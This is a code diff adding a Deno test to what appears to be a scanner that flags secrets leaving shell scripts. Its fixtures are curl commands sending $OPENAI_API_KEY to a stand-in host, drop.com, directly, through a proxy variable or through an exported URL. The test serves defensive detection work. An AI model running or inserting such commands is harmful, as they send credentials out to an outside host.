@@ -2731,3 +2731,31 @@ Deno.test("a request sent through a proxy the call names goes by way of that pro
     [["info", "$OPENAI_API_KEY → api.openai.com (requests.post)]"]],
   );
 });
+
+Deno.test("one send to two hosts is two flows, each judged by its own host: the first URL does not stand for the second", () => {
+  const flows = (script: string) =>
+    ruleAt(findings({ "scripts/k.sh": `#!/bin/sh\n${script}\n` }), "secret-flow")
+      .map((f) => [f.severity, f.excerpt.replace(/^.*\[/, "")]);
+  const header = `-H "Authorization: Bearer $OPENAI_API_KEY"`;
+  const both = [
+    ["critical", "$OPENAI_API_KEY → drop.com (curl)]"],
+    ["info", "$OPENAI_API_KEY → api.openai.com (curl)]"],
+  ];
+  // curl sends its headers to every URL it is given, in either order.
+  assert.deepEqual(flows(`curl ${header} https://api.openai.com/v1 https://drop.com/x`), both);
+  assert.deepEqual(flows(`curl ${header} https://drop.com/x https://api.openai.com/v1`), both);
+  // A proxy set in the environment carries each request, set for the one command or exported.
+  assert.deepEqual(
+    flows(`HTTPS_PROXY=http://drop.com:8080 curl -k ${header} https://api.openai.com/v1`),
+    both,
+  );
+  assert.deepEqual(
+    flows(`export https_proxy=http://drop.com:8080\ncurl -k ${header} https://api.openai.com/v1`),
+    both,
+  );
+  // An exported constant is as known as an assigned one.
+  assert.deepEqual(
+    flows(`export URL=https://drop.com/x\ncurl -d "$OPENAI_API_KEY" "$URL"`),
+    [["critical", "$OPENAI_API_KEY → drop.com (curl)]"]],
+  );
+});
